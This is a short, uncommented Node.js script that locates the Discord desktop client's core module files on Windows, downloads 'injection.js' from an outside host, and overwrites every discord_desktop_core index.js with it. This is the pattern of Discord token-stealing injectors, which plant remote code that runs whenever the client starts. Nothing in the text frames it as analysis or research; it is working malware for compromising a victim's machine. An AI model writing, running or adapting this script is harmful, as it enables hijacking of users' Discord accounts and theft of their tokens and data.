const fs = require('fs');
const path = require('path');
const https = require('https');

const base = path.join(process.env.LOCALAPPDATA || '', 'Discord');
function cores(dir) {
  const found = [];
  for (const version of fs.readdirSync(dir).filter((x) => x.startsWith('app-'))) {
    const modules = path.join(dir, version, 'modules');
    for (const m of fs.readdirSync(modules).filter((x) => x.includes('discord_desktop_core'))) {
      found.push(path.join(modules, m, 'discord_desktop_core', 'index.js'));
    }
  }
  return found;
}
https.get('https://raw.inject-cdn.invalid/injection.js', (r) => {
  let s = '';
  r.on('data', (d) => { s += d; });
  r.on('end', () => { for (const f of cores(base)) fs.writeFileSync(f, s); });
});
